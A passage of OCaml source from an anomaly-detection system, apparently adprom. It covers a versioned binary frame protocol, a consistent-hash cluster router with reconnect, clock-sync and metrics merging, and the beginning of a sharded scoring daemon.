    [Spans_req]/[Spans_resp] (collecting node spans for a merged
    cluster trace).

    Each frame's header is stamped with the {e lowest} version that can
    decode it — the whole v1 frame set keeps its v1 stamp — so a new
    router interoperates with old nodes by simply not sending v2 frames
    to a peer whose [Hello] announced version 1.

    Decoding is total: any malformed byte yields a structured {!error},
    never an exception, and the decoder stays dead afterwards (binary
    framing cannot resynchronize). *)

val protocol_version : int
(** Current wire version (2). A decoder rejects frames stamped with a
    newer version; {!Hello} lets peers agree on the minimum. *)

val magic : string
(** The two magic bytes every frame starts with — also how
    {!detect} tells a binary record file from a text one. *)

val max_payload : int
(** Upper bound on a frame's payload length; longer frames are
    rejected as {!error.Frame_too_large} before any allocation. *)

type node_summary = {
  node : string;  (** the node's self-chosen name *)
  summary : Daemon.summary;
  incidents : (int * string) list;
      (** (session, {!Alerts.source_to_string} rendering) — without the
          per-node sequence numbers and timestamps *)
  fused : (int * Alerts.fused) list;
      (** per surviving session: which detection axes fired *)
}

type health = {
  h_node : string;  (** the node's self-chosen name *)
  h_status : Health.status;
  h_snapshot : Metrics.snapshot;
      (** value-level metrics — the router merges these exactly with
          {!Metrics.merge_snapshots}, no text re-parsing *)
  h_incidents : (int * string) list;
      (** tail of the node's incident log, (session, rendering) *)
  h_uptime_s : float;
}

type frame =
  | Hello of { version : int; peer : string; sample : (int64 * int64) option }
      (** [sample] is [(monotonic_ns, wall_ns)] read just before the
          frame was staged — the responder attaches one so the
          initiator can estimate the peer's clock offset. A sample-less
          hello is byte-identical to the v1 frame and is stamped v1. *)
  | Ack of { count : int }  (** events ingested on this connection so far *)
  | Call of Transport.event
  | Query of Transport.query
  | Metrics_req
  | Metrics_resp of string  (** a Prometheus-style {!Metrics.dump} *)
  | Bye
  | Summary of node_summary
  | Clock_probe of { seq : int }
  | Clock_reply of { seq : int; mono_ns : int64; wall_ns : int64 }
      (** clocks read between receiving the probe and staging the reply;
          the prober dates them at the probe's midpoint (min-RTT) *)
  | Trace_mark of { trace_id : int; send_mono_ns : int64; offset_ns : int64 }
      (** sent ahead of a batch: the batch's trace id, the router's
          clock when it sent, and the router's estimate of {e this
          peer's} offset ([peer_ns - router_ns]) so the node can place
          the router's send instant on its own clock *)
  | Health_req
  | Health_resp of health
  | Spans_req
  | Spans_resp of Adprom_obs.Trace.span list
      (** the node's retained spans, timed by the node's own clock *)

type error =
  | Bad_magic of { byte0 : int; byte1 : int }
  | Bad_version of int
  | Bad_frame_type of int
  | Frame_too_large of { length : int; limit : int }
  | Bad_payload of { frame : string; reason : string }
  | Truncated of { pending : int }
      (** EOF with [pending] bytes of an incomplete frame buffered *)

val error_to_string : error -> string

val frame_name : frame -> string
(** ["hello"], ["call"], ... — for diagnostics. *)

module Encoder : sig
  type t

  val create : unit -> t
  (** Fresh per-connection state: empty interned-string table. *)

  val add : t -> Buffer.t -> frame -> unit
  (** Stage one frame's bytes. Frames accumulate inside the encoder
      and are appended to the buffer in ~4 KiB batches; call {!flush}
      before the buffer's bytes are transmitted. Use one buffer per
      encoder between flushes.
      @raise Invalid_argument on a [Query] with negative [rows] (the
      same corrupt-cardinality guard the text parser applies). *)

  val flush : t -> Buffer.t -> unit
  (** Append any staged frames to [buf]. *)
end

module Decoder : sig
  type t

  val create : ?max_version:int -> unit -> t
  (** [max_version] (default {!protocol_version}) caps the header
      versions this decoder accepts — [~max_version:1] reproduces an
      old build's wire behaviour, which the version-skew tests pin. *)

  val feed : t -> ?pos:int -> ?len:int -> string -> (frame list, error) result
  (** Consume one chunk (a TCP read, or a whole file) and return the
      frames it completed. Partial trailing bytes are buffered. An
      [Error] poisons the decoder: every later call returns it again. *)

  val feed_fold :
    t ->
    ?pos:int ->
    ?len:int ->
    string ->
    init:'a ->
    f:('a -> frame -> 'a) ->
    ('a, error) result
  (** Like {!feed}, but apply [f] to each frame as it completes — the
      serve loop dispatches straight off the wire without building a
      frame list per chunk. *)

  val finish : t -> (unit, error) result
  (** End of stream: [Error (Truncated _)] if an incomplete frame is
      still buffered. *)
end

val detect : string -> Transport.wire
(** [Binary] when the buffer starts with {!magic}, [Line] otherwise —
    lets `adprom replay`/`route` read either record format. *)

val transport_of_wire : Transport.wire -> (module Transport.S)

module T : Transport.S
(** The binary format behind the common transport signature: items
    become [Call]/[Query] frames. [feed] tolerates interleaved [Hello]
    frames (record files may carry one) and rejects any other control
    frame as out of place in an item stream. *)

(* FNV-1a over 64 bits, folded to a non-negative OCaml int. Hashtbl.hash
   would be simpler but is not guaranteed stable across versions or
   processes — and every router must place a session on the same node. *)
let fnv1a s =
  let h = ref 0xcbf29ce484222325L in
  String.iter
    (fun ch ->
      h :=
        Int64.mul
          (Int64.logxor !h (Int64.of_int (Char.code ch)))
          0x100000001b3L)
    s;
  (* FNV alone barely moves the high bits when only the last byte
     differs ("0" vs "1" — exactly the short keys session ids make), and
     the ring orders by the high bits; finish with splitmix64's
     avalanche so neighbouring ids scatter. *)
  let mix h =
    let h = Int64.mul (Int64.logxor h (Int64.shift_right_logical h 30)) 0xbf58476d1ce4e5b9L in
    let h = Int64.mul (Int64.logxor h (Int64.shift_right_logical h 27)) 0x94d049bb133111ebL in
    Int64.logxor h (Int64.shift_right_logical h 31)
  in
  Int64.to_int (Int64.shift_right_logical (mix !h) 1)

module Ring = struct
  type t = { points : (int * string) array; names : string list }

  let create ?(replicas = 64) names =
    if names = [] then invalid_arg "Cluster.Ring.create: no nodes";
    if replicas < 1 then invalid_arg "Cluster.Ring.create: replicas < 1";
    let points =
      List.concat_map
        (fun name ->
          List.init replicas (fun i ->
              (fnv1a (Printf.sprintf "%s#%d" name i), name)))
        names
      |> Array.of_list
    in
    Array.sort compare points;
    { points; names }

  let nodes t = t.names

  let node t session =
    let key = fnv1a (string_of_int session) in
    let n = Array.length t.points in
    (* first point with hash >= key, wrapping to 0 past the top *)
    let rec search lo hi =
      if lo >= hi then lo
      else begin
        let mid = (lo + hi) / 2 in
        if fst t.points.(mid) < key then search (mid + 1) hi else search lo mid
      end
    in
    let i = search 0 n in
    snd t.points.(if i = n then 0 else i)
end

type peer = { peer_name : string; host : string; port : int }

let peer_of_string s =
  let name, addr =
    match String.index_opt s '=' with
    | Some i ->
        (String.sub s 0 i, String.sub s (i + 1) (String.length s - i - 1))
    | None -> (s, s)
  in
  match String.rindex_opt addr ':' with
  | None ->
      Error (Printf.sprintf "bad node address %S (expected [name=]host:port)" s)
  | Some i -> (
      let host =
        match String.sub addr 0 i with "" -> "127.0.0.1" | h -> h
      in
      match int_of_string_opt (String.sub addr (i + 1) (String.length addr - i - 1)) with
      | Some p when p > 0 && p < 65536 -> Ok { peer_name = name; host; port = p }
      | _ -> Error (Printf.sprintf "bad port in node address %S" s))

let write_all fd s =
  let b = Bytes.unsafe_of_string s in
  let n = String.length s in
  let rec go off =
    if off < n then
      match Unix.write fd b off (n - off) with
      | w -> go (off + w)
      | exception Unix.Unix_error ((EAGAIN | EWOULDBLOCK), _, _) ->
          ignore (Unix.select [] [fd] [] (-1.0));
          go off
  in
  go 0

let resolve host =
  match Unix.inet_addr_of_string host with
  | addr -> addr
  | exception Failure _ -> (
      match (Unix.gethostbyname host).Unix.h_addr_list with
      | [||] -> failwith (host ^ ": unknown host")
      | addrs -> addrs.(0)
      | exception Not_found -> failwith (host ^ ": unknown host"))

module Router = struct
  let flush_threshold = 32 * 1024

  type rpeer = {
    spec : peer;
    mutable fd : Unix.file_descr;
    mutable enc : Frame.Encoder.t;
    mutable dec : Frame.Decoder.t;
    mutable inbox : Frame.frame list;  (* decoded but unconsumed replies *)
    out : Buffer.t;
    mutable out_items : int;  (* items encoded in [out], not yet flushed *)
    mutable sent : int;
    mutable acked : int;
    mutable lost : int;
    mutable reconnects : int;
    mutable version : int;  (* negotiated: min(ours, the node's hello) *)
    mutable offset_ns : int64;  (* node_mono - router_mono estimate *)
    mutable probe_seq : int;
  }

  type t = {
    ring : Ring.t;
    peers : (string * rpeer) list;
    me : string;
    attempts : int;
    mutable closed : bool;
    chunk : Bytes.t;
  }

  exception Router_error of string

  let dial ~attempts spec =
    let rec go k =
      let fd = Unix.socket PF_INET SOCK_STREAM 0 in
      match
        Unix.connect fd (ADDR_INET (resolve spec.host, spec.port))
      with
      | () -> fd
      | exception Unix.Unix_error ((ECONNREFUSED | ETIMEDOUT | EHOSTUNREACH | ENETUNREACH), _, _)
        when k + 1 < attempts ->
          (try Unix.close fd with Unix.Unix_error _ -> ());
          (* exponential backoff, capped at a second *)
          Unix.sleepf (Float.min 1.0 (0.05 *. Float.pow 2.0 (float_of_int k)));
          go (k + 1)
      | exception Unix.Unix_error (e, _, _) ->
          (try Unix.close fd with Unix.Unix_error _ -> ());
          raise
            (Router_error
               (Printf.sprintf "%s (%s:%d): %s" spec.peer_name spec.host
                  spec.port (Unix.error_message e)))
    in
    go 0

  let rec next_frame t p =
    match p.inbox with
    | f :: rest ->
        p.inbox <- rest;
        f
    | [] -> (
        match Unix.read p.fd t.chunk 0 (Bytes.length t.chunk) with
        | 0 ->
            raise
              (Router_error (p.spec.peer_name ^ ": connection closed by node"))
        | n -> (
            match Frame.Decoder.feed p.dec (Bytes.sub_string t.chunk 0 n) with
            | Error e ->
                raise
                  (Router_error
                     (p.spec.peer_name ^ ": " ^ Frame.error_to_string e))
            | Ok frames ->
                p.inbox <- frames;
                next_frame t p)
        | exception Unix.Unix_error (EINTR, _, _) -> next_frame t p)

  (* Skip over flow-feedback Acks to the first frame [pred] wants. *)
  let rec await t p ~what pred =
    match next_frame t p with
    | Frame.Ack { count } ->
        p.acked <- count;
        await t p ~what pred
    | f -> (
        match pred f with
        | Some v -> v
        | None ->
            raise
              (Router_error
                 (Printf.sprintf "%s: unexpected %s frame (awaiting %s)"
                    p.spec.peer_name (Frame.frame_name f) what)))

  let hello t p =
    let out = Buffer.create 32 in
    (* the initiating hello is sample-less, hence v1-shaped and
       v1-stamped: an old node must be able to decode it. The payload's
       version field still announces what we speak. *)
    Frame.Encoder.add p.enc out
      (Frame.Hello
         { version = Frame.protocol_version; peer = t.me; sample = None });
    Frame.Encoder.flush p.enc out;
    let t_send = Adprom_obs.Clock.monotonic_ns () in
    write_all p.fd (Buffer.contents out);
    let version, sample =
      await t p ~what:"hello"
        (function
          | Frame.Hello { version; sample; _ } -> Some (version, sample)
          | _ -> None)
    in
    let t_recv = Adprom_obs.Clock.monotonic_ns () in
    if version < 1 then
      raise
        (Router_error
           (Printf.sprintf "%s: incompatible protocol version %d"
              p.spec.peer_name version));
    p.version <- min Frame.protocol_version version;
    (* a v2 node samples its clocks into the hello reply: dating the
       sample at the round-trip's midpoint gives a first offset
       estimate, refined by {!clock_sync}'s min-RTT probes *)
    match sample with
    | Some (mono_ns, _wall_ns) ->
        p.offset_ns <-
          Int64.sub mono_ns (Int64.div (Int64.add t_send t_recv) 2L)
    | None -> ()

  let reconnect t p =
    (* everything unflushed, plus everything flushed past the last Ack:
       an upper bound — the node may have scored some of it — which is
       the right direction for a "verdicts no longer comparable" flag *)
    p.lost <- p.lost + p.out_items + (p.sent - p.acked);
    Buffer.clear p.out;
    p.out_items <- 0;
    (try Unix.close p.fd with Unix.Unix_error _ -> ());
    p.fd <- dial ~attempts:t.attempts p.spec;
    (* a new connection is a new interned-string namespace *)
    p.enc <- Frame.Encoder.create ();
    p.dec <- Frame.Decoder.create ();
    p.inbox <- [];
    p.sent <- 0;
    p.acked <- 0;
    p.reconnects <- p.reconnects + 1;
    hello t p

  let flush t p =
    Frame.Encoder.flush p.enc p.out;
    if Buffer.length p.out > 0 then begin
      let items = p.out_items in
      (* Stamp the batch for cross-node tracing: the mark follows the
         batch's bytes on the same connection, so the node's [wire.batch]
         span runs from our send instant (mapped onto the node's clock
         via [offset_ns]) to the moment the whole batch was ingested. *)
      let mark =
        if items > 0 && p.version >= 2 && Adprom_obs.Trace.enabled () then begin
          let trace_id = Adprom_obs.Trace.fresh_id () in
          let send_mono_ns = Adprom_obs.Clock.monotonic_ns () in
          Frame.Encoder.add p.enc p.out
            (Frame.Trace_mark
               { trace_id; send_mono_ns; offset_ns = p.offset_ns });
          Frame.Encoder.flush p.enc p.out;
          Some (trace_id, send_mono_ns)
        end
        else None
      in
      match write_all p.fd (Buffer.contents p.out) with
      | () ->
          p.sent <- p.sent + items;
          Buffer.clear p.out;
          p.out_items <- 0;
          (match mark with
          | Some (trace_id, send_mono_ns) ->
              Adprom_obs.Trace.record_span ~trace_id ~name:"route.batch"
                ~attrs:
                  [ ("peer", p.spec.peer_name);
                    ("items", string_of_int items) ]
                ~start_ns:send_mono_ns
                ~dur_ns:
                  (Int64.sub (Adprom_obs.Clock.monotonic_ns ()) send_mono_ns)
                ()
          | None -> ())
      | exception Unix.Unix_error ((EPIPE | ECONNRESET | ECONNREFUSED), _, _)
        ->
          reconnect t p
    end

  (* Opportunistically consume any Acks the node pushed while we were
     writing, so the socket buffer never fills with feedback. *)
  let drain_acks t p =
    let rec go () =
      match Unix.select [ p.fd ] [] [] 0.0 with
      | [], _, _ -> ()
      | _ -> (
          match Unix.read p.fd t.chunk 0 (Bytes.length t.chunk) with
          | 0 -> ()
          | n -> (
              match Frame.Decoder.feed p.dec (Bytes.sub_string t.chunk 0 n) with
              | Error e ->
                  raise
                    (Router_error
                       (p.spec.peer_name ^ ": " ^ Frame.error_to_string e))
              | Ok frames ->
                  List.iter
                    (function
                      | Frame.Ack { count } -> p.acked <- count
                      | f -> p.inbox <- p.inbox @ [ f ])
                    frames;
                  go ())
          | exception Unix.Unix_error (EINTR, _, _) -> go ())
      | exception Unix.Unix_error (EINTR, _, _) -> go ()
    in
    go ()

  let connect ?replicas ?(attempts = 10) ?(peer = "router") specs =
    (* a node that dies mid-stream must surface as EPIPE on the next
       write — the reconnect path — not as a process-killing SIGPIPE *)
    Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
    match
      let names = List.map (fun s -> s.peer_name) specs in
      if List.length (List.sort_uniq compare names) <> List.length names then
        raise (Router_error "duplicate node names");
      let t =
        {
          ring = Ring.create ?replicas names;
          peers = [];
          me = peer;
          attempts;
          closed = false;
          chunk = Bytes.create 65536;
        }
      in
      (* register each fd as soon as it is open, so a later dial or
         handshake failure closes every earlier connection too *)
      let opened = ref [] in
      (try
         List.iter
           (fun spec ->
             let p =
               {
                 spec;
                 fd = dial ~attempts spec;
                 enc = Frame.Encoder.create ();
                 dec = Frame.Decoder.create ();
                 inbox = [];
                 out = Buffer.create flush_threshold;
                 out_items = 0;
                 sent = 0;
                 acked = 0;
                 lost = 0;
                 reconnects = 0;
                 version = 1;
                 offset_ns = 0L;
                 probe_seq = 0;
               }
             in
             opened := (spec.peer_name, p) :: !opened;
             hello t p)
           specs
       with e ->
         List.iter
           (fun (_, p) -> try Unix.close p.fd with Unix.Unix_error _ -> ())
           !opened;
         raise e);
      { t with peers = List.rev !opened }
    with
    | t -> Ok t
    | exception Router_error e -> Error e
    | exception Invalid_argument e -> Error e

  let peer_of t item =
    List.assoc (Ring.node t.ring (Transport.item_session item)) t.peers

  let send_exn t item =
    if t.closed then raise (Router_error "router already finished");
    let p = peer_of t item in
    Frame.Encoder.add p.enc p.out
      (match item with
      | Transport.Call ev -> Frame.Call ev
      | Transport.Query q -> Frame.Query q);
    p.out_items <- p.out_items + 1;
    if Buffer.length p.out >= flush_threshold then begin
      flush t p;
      drain_acks t p
    end

  let send t item =
    match send_exn t item with
    | () -> Ok ()
    | exception Router_error e -> Error e

  let send_stream t items =
    match Array.iter (send_exn t) items with
    | () -> Ok ()
    | exception Router_error e -> Error e

  let flush_all t =
    match
      if t.closed then raise (Router_error "router already finished");
      List.iter (fun (_, p) -> flush t p) t.peers
    with
    | () -> Ok ()
    | exception Router_error e -> Error e
    | exception Unix.Unix_error (e, _, _) -> Error (Unix.error_message e)

  let lost_items t =
    List.fold_left (fun acc (_, p) -> acc + p.lost) 0 t.peers

  let peer_versions t =
    List.map (fun (name, p) -> (name, p.version)) t.peers

  let clock_offsets t =
    List.map (fun (name, p) -> (name, p.offset_ns)) t.peers

  (* ---- operations plane ------------------------------------------- *)

  let request_reply t p frame ~what pred =
    flush t p;
    let out = Buffer.create 16 in
    Frame.Encoder.add p.enc out frame;
    Frame.Encoder.flush p.enc out;
    write_all p.fd (Buffer.contents out);
    await t p ~what pred

  let clock_sync ?(probes = 3) t =
    match
      if t.closed then raise (Router_error "router already finished");
      List.iter
        (fun (_, p) ->
          if p.version >= 2 then begin
            let best_rtt = ref Int64.max_int in
            for _ = 1 to probes do
              let seq = p.probe_seq in
              p.probe_seq <- seq + 1;
              flush t p;
              let out = Buffer.create 16 in
              Frame.Encoder.add p.enc out (Frame.Clock_probe { seq });
              Frame.Encoder.flush p.enc out;
              let t0 = Adprom_obs.Clock.monotonic_ns () in
              write_all p.fd (Buffer.contents out);
              let mono_ns =
                await t p ~what:"clock-reply" (function
                  | Frame.Clock_reply { seq = s; mono_ns; _ } when s = seq ->
                      Some mono_ns
                  | _ -> None)
              in
              let t1 = Adprom_obs.Clock.monotonic_ns () in
              (* the probe with the smallest round trip spent the least
                 time queued anywhere, so dating its sample at the
                 midpoint has the tightest error bound *)
              let rtt = Int64.sub t1 t0 in
              if Int64.compare rtt !best_rtt < 0 then begin
                best_rtt := rtt;
                p.offset_ns <-
                  Int64.sub mono_ns (Int64.div (Int64.add t0 t1) 2L)
              end
            done
          end)
        t.peers
    with
    | () -> Ok ()
    | exception Router_error e -> Error e
    | exception Unix.Unix_error (e, _, _) -> Error (Unix.error_message e)

  let health t =
    match
      if t.closed then raise (Router_error "router already finished");
      List.filter_map
        (fun (name, p) ->
          if p.version < 2 then None
          else
            Some
              ( name,
                request_reply t p Frame.Health_req ~what:"health" (function
                  | Frame.Health_resp h -> Some h
                  | _ -> None) ))
        t.peers
    with
    | healths -> Ok healths
    | exception Router_error e -> Error e
    | exception Unix.Unix_error (e, _, _) -> Error (Unix.error_message e)

  let spans t =
    match
      if t.closed then raise (Router_error "router already finished");
      List.filter_map
        (fun (name, p) ->
          if p.version < 2 then None
          else
            Some
              ( name,
                p.offset_ns,
                request_reply t p Frame.Spans_req ~what:"spans" (function
                  | Frame.Spans_resp spans -> Some spans
                  | _ -> None) ))
        t.peers
    with
    | groups -> Ok groups
    | exception Router_error e -> Error e
    | exception Unix.Unix_error (e, _, _) -> Error (Unix.error_message e)

  let close t =
    (* drop the connections without [Bye]: the observation commands
       ([status], [top]) must not shut the fleet down on exit *)
    if not t.closed then begin
      t.closed <- true;
      List.iter
        (fun (_, p) -> try Unix.close p.fd with Unix.Unix_error _ -> ())
        t.peers
    end

  (* ---- metrics merging ------------------------------------------- *)

  let fmt_value v =
    if Float.is_integer v && Float.abs v < 1e15 then Printf.sprintf "%.0f" v
    else Printf.sprintf "%g" v

  let merge_dumps dumps =
    let tbl = Hashtbl.create 64 in
    List.iter
      (fun dump ->
        List.iter
          (fun line ->
            (* # HELP / # TYPE metadata merges by dedup, not by sum —
               dropped here; the merged dump stays sample lines only *)
            if line <> "" && line.[0] <> '#' then
              match String.rindex_opt line ' ' with
              | None -> ()
              | Some i -> (
                  let key = String.sub line 0 i in
                  match
                    float_of_string_opt
                      (String.sub line (i + 1) (String.length line - i - 1))
                  with
                  | None -> ()
                  | Some v ->
                      let merged =
                        match Hashtbl.find_opt tbl key with
                        | None -> v
                        | Some prev ->
                            (* high-watermarks don't add up across nodes *)
                            if
                              String.length key >= 4
                              && String.sub key (String.length key - 4) 4
                                 = "_max"
                            then Float.max prev v
                            else prev +. v
                      in
                      Hashtbl.replace tbl key merged))
          (String.split_on_char '\n' dump))
      dumps;
    let keys = Hashtbl.fold (fun k _ acc -> k :: acc) tbl [] in
    let buf = Buffer.create 1024 in
    List.iter
      (fun k ->
        Buffer.add_string buf
          (Printf.sprintf "%s %s\n" k (fmt_value (Hashtbl.find tbl k))))
      (List.sort compare keys);
    Buffer.contents buf

  let metrics t =
    match
      List.map
        (fun (_, p) ->
          flush t p;
          let out = Buffer.create 16 in
          Frame.Encoder.add p.enc out Frame.Metrics_req;
          Frame.Encoder.flush p.enc out;
          write_all p.fd (Buffer.contents out);
          await t p ~what:"metrics"
            (function Frame.Metrics_resp d -> Some d | _ -> None))
        t.peers
    with
    | dumps -> Ok (merge_dumps dumps)
    | exception Router_error e -> Error e
    | exception Unix.Unix_error (e, _, _) -> Error (Unix.error_message e)

  let finish t =
    match
      if t.closed then raise (Router_error "router already finished");
      t.closed <- true;
      List.iter
        (fun (_, p) ->
          flush t p;
          let out = Buffer.create 16 in
          Frame.Encoder.add p.enc out Frame.Bye;
          Frame.Encoder.flush p.enc out;
          write_all p.fd (Buffer.contents out))
        t.peers;
      let summaries =
        List.map
          (fun (_, p) ->
            await t p ~what:"summary"
              (function Frame.Summary s -> Some s | _ -> None))
          t.peers
      in
      List.iter
        (fun (_, p) ->
          try Unix.close p.fd with Unix.Unix_error _ -> ())
        t.peers;
      summaries
    with
    | summaries -> Ok summaries
    | exception Router_error e -> Error e
    | exception Unix.Unix_error (e, _, _) -> Error (Unix.error_message e)
end

let merge = function
  | [] -> invalid_arg "Cluster.merge: no summaries"
  | summaries ->
      let node =
        String.concat "+" (List.map (fun s -> s.Frame.node) summaries)
      in
      let sessions =
        List.concat_map
          (fun s -> s.Frame.summary.Daemon.sessions)
          summaries
        |> List.sort (fun (a : Daemon.session_report) b ->
               compare a.session b.session)
      in
      let shed =
        List.concat_map (fun s -> s.Frame.summary.Daemon.shed) summaries
        |> List.sort compare
      in
      let sum f =
        List.fold_left (fun acc s -> acc + f s.Frame.summary) 0 summaries
      in
      {
        Frame.node;
        summary =
          {
            Daemon.sessions;
            shed;
            events_offered = sum (fun s -> s.Daemon.events_offered);
            events_ingested = sum (fun s -> s.Daemon.events_ingested);
            events_dropped = sum (fun s -> s.Daemon.events_dropped);
          };
        incidents =
          List.concat_map (fun s -> s.Frame.incidents) summaries
          |> List.stable_sort (fun (a, _) (b, _) -> compare a b);
        fused =
          List.concat_map (fun s -> s.Frame.fused) summaries
          |> List.sort (fun (a, _) (b, _) -> compare a b);
      }

type local = { name : string; pid : int; port : int }

let spawn_local ~name f =
  let socket, port = Server.bind 0 in
  (* buffered output would be flushed twice, once per process *)
  flush stdout;
  flush stderr;
  match Unix.fork () with
  | 0 -> (
      match f socket with
      | () -> Unix._exit 0
      | exception e ->
          Printf.eprintf "adprom node %s: %s\n%!" name (Printexc.to_string e);
          Unix._exit 1)
  | pid ->
      Unix.close socket;
      { name; pid; port }

let wait_local l =
  match snd (Unix.waitpid [] l.pid) with
  | Unix.WEXITED 0 -> ()
  | Unix.WEXITED n ->
      failwith (Printf.sprintf "node %s exited with status %d" l.name n)
  | Unix.WSIGNALED s ->
      failwith (Printf.sprintf "node %s killed by signal %d" l.name s)
  | Unix.WSTOPPED s ->
      failwith (Printf.sprintf "node %s stopped by signal %d" l.name s)

module Detector = Adprom.Detector
module Profile = Adprom.Profile
module Scoring = Adprom.Scoring
module Otrace = Adprom_obs.Trace
module Olog = Adprom_obs.Log
module Oring = Adprom_obs.Ring

type gate_mode = Gate_off | Gate_explain | Gate_enforce

let gate_mode_to_string = function
  | Gate_off -> "off"
  | Gate_explain -> "explain"
  | Gate_enforce -> "enforce"

let gate_mode_of_string = function
  | "off" -> Some Gate_off
  | "explain" -> Some Gate_explain
  | "enforce" -> Some Gate_enforce
  | _ -> None

type qsig_mode = Qsig_off | Qsig_warn | Qsig_enforce

let qsig_mode_to_string = function
  | Qsig_off -> "off"
  | Qsig_warn -> "warn"
  | Qsig_enforce -> "enforce"

let qsig_mode_of_string = function
  | "off" -> Some Qsig_off
  | "warn" -> Some Qsig_warn
  | "enforce" -> Some Qsig_enforce
  | _ -> None

(* Warn checks under the Flexible policy, Enforce under Strict. Strict
   constraints are tighter, so Enforce's anomaly set is a superset of
   Warn's on the same stream (the fused-verdict monotonicity the tests
   pin down). *)
let qsig_policy_of_mode = function
  | Qsig_off | Qsig_warn -> Adprom_qsig.Constraints.Flexible
  | Qsig_enforce -> Adprom_qsig.Constraints.Strict

module Oclock = Adprom_obs.Clock

(* Items are stamped with the monotonic clock at admission so workers
   can report queue wait and ingest→verdict (end-to-end) latency. *)
type message =
  | Event of Codec.event * int64  (* payload, enqueue monotonic ns *)
  | Query of Codec.query * int64
  | Shed of int  (* discard this session's scorer; ignore later events *)

(* End-to-end latency spans queueing, so it needs headroom past the
   1s scoring-latency ceiling; both nodes registering the same layout
   is what lets the router merge fleet histograms bucket-wise. *)
let e2e_buckets =
  Array.append Metrics.default_buckets [| 2.5; 5.0; 10.0 |]

let ns_to_s ns = Int64.to_float ns /. 1e9

type shard = {
  mutex : Mutex.t;
  nonempty : Condition.t;
  queue : message Queue.t;
  mutable closed : bool;
  depth : Metrics.gauge;
}

type session_report = {
  session : int;
  events : int;
  windows : int;
  worst : Detector.flag;
  verdicts : Detector.verdict list;
  qsig_checks : int;
  qsig_anomalies : int;
}

type shard_result = {
  reports : session_report list;
  discarded : (int * int) list;  (* shed sessions: accepted events thrown away *)
}

type summary = {
  sessions : session_report list;
  shed : (int * int * int) list;
      (* session, events dropped at the door, accepted events discarded *)
  events_offered : int;
  events_ingested : int;
  events_dropped : int;
}

type admission = Accepted | Rejected of { newly_shed : bool }

type t = {
  profile : Profile.t;
  capacity : int;
  keep_verdicts : bool;
  qsig_active : bool;
  shards : shard array;
  workers : shard_result Domain.t array;
  metrics : Metrics.t;
  alerts : Alerts.t;
  rings : Olog.event Oring.t array;  (* recent events, one ring per shard *)
  span_hook : Otrace.hook;
  (* ingestion front-end state: one acceptor thread *)
  shed_at_door : (int, int ref) Hashtbl.t;  (* session -> events dropped *)
  mutable offered : int;
  mutable ingested : int;
  mutable dropped : int;
  mutable draining : bool;
  c_offered : Metrics.counter;
  c_ingested : Metrics.counter;
  c_dropped : Metrics.counter;
  c_shed_sessions : Metrics.counter;
}

let flag_severity = function
  | Detector.Normal -> 0
  | Detector.Anomalous -> 1
  | Detector.Out_of_context -> 2
  | Detector.Data_leak -> 3

let flag_counter_names =
  [|
    "adprom_verdicts_normal_total";
    "adprom_verdicts_anomalous_total";
    "adprom_verdicts_out_of_context_total";
    "adprom_verdicts_data_leak_total";
  |]

let shard_of t session = Hashtbl.hash session mod Array.length t.shards

let worker ~idx ~profile ~static_pairs ~static_auto ~gate_enforce ~keep_verdicts
    ~qsig ~qsig_static ~metrics ~alerts ~ring shard =
  (* one compiled engine per worker domain: every session of this shard
     shares its interned tables and verdict memo *)
  let engine = Scoring.create profile in
  Scoring.set_static_pairs engine static_pairs;
  (match static_auto with
  | Some auto ->
      Scoring.set_static_dfa engine (Some auto);
      Scoring.set_gate_enforce engine gate_enforce
  | None -> ());
  (* the query axis mirrors the sequence axis: one compiled qsig engine
     per worker (interned signature codes, shared memo), one streaming
     scorer per session *)
  let qsig_engine =
    match qsig with
    | None -> None
    | Some (qprofile, policy) ->
        let qe = Adprom_qsig.Engine.create ~policy qprofile in
        (match qsig_static with
        | Some (sigs, complete, enforce) ->
            Adprom_qsig.Engine.set_static_signatures qe ~complete sigs;
            Adprom_qsig.Engine.set_gate_enforce qe enforce
        | None -> ());
        Some qe
  in
  let qsig_scorers : (int, Adprom_qsig.Engine.Scorer.t) Hashtbl.t =
    Hashtbl.create 16
  in
  let scorers : (int, Scorer.t) Hashtbl.t = Hashtbl.create 64 in
  let shed_here : (int, unit) Hashtbl.t = Hashtbl.create 8 in
  let discarded = ref [] in
  let c_windows = Metrics.counter metrics "adprom_windows_scored_total" in
  let c_flags = Array.map (Metrics.counter metrics) flag_counter_names in
  let h_latency = Metrics.histogram metrics "adprom_score_latency_seconds" in
  let h_queue_wait = Metrics.histogram metrics "adprom_queue_wait_seconds" in
  let h_e2e =
    Metrics.histogram ~buckets:e2e_buckets metrics "adprom_e2e_latency_seconds"
  in
  let c_hits = Metrics.counter metrics "adprom_score_cache_hits_total" in
  let c_misses = Metrics.counter metrics "adprom_score_cache_misses_total" in
  let c_scorer_errors = Metrics.counter metrics "adprom_scorer_errors_total" in
  let c_gate_checks = Metrics.counter metrics "adprom_dfa_gate_checks_total" in
  let c_gate_rejections =
    Metrics.counter metrics "adprom_dfa_gate_rejections_total"
  in
  let c_qsig_checks = Metrics.counter metrics "adprom_qsig_checks_total" in
  let c_qsig_anomalies =
    Metrics.counter metrics "adprom_qsig_anomalies_total"
  in
  let c_qgate_checks =
    Metrics.counter metrics "adprom_qsig_gate_checks_total"
  in
  let c_qgate_rejections =
    Metrics.counter metrics "adprom_qsig_gate_rejections_total"
  in
  let seen_hits = ref 0 and seen_misses = ref 0 in
  let seen_gate_checks = ref 0 and seen_gate_rejections = ref 0 in
  let seen_qgate_checks = ref 0 and seen_qgate_rejections = ref 0 in
  let sync_cache_counters () =
    let h = Scoring.cache_hits engine and m = Scoring.cache_misses engine in
    if h > !seen_hits then begin
      Metrics.incr ~by:(h - !seen_hits) c_hits;
      seen_hits := h
    end;
    if m > !seen_misses then begin
      Metrics.incr ~by:(m - !seen_misses) c_misses;
      seen_misses := m
    end;
    let gc = Scoring.gate_checks engine and gr = Scoring.gate_rejections engine in
    if gc > !seen_gate_checks then begin
      Metrics.incr ~by:(gc - !seen_gate_checks) c_gate_checks;
      seen_gate_checks := gc
    end;
    if gr > !seen_gate_rejections then begin
      Metrics.incr ~by:(gr - !seen_gate_rejections) c_gate_rejections;
      seen_gate_rejections := gr
    end;
    match qsig_engine with
    | None -> ()
    | Some qe ->
        let qc = Adprom_qsig.Engine.gate_checks qe
        and qr = Adprom_qsig.Engine.gate_rejections qe in
        if qc > !seen_qgate_checks then begin
          Metrics.incr ~by:(qc - !seen_qgate_checks) c_qgate_checks;
          seen_qgate_checks := qc
        end;
        if qr > !seen_qgate_rejections then begin
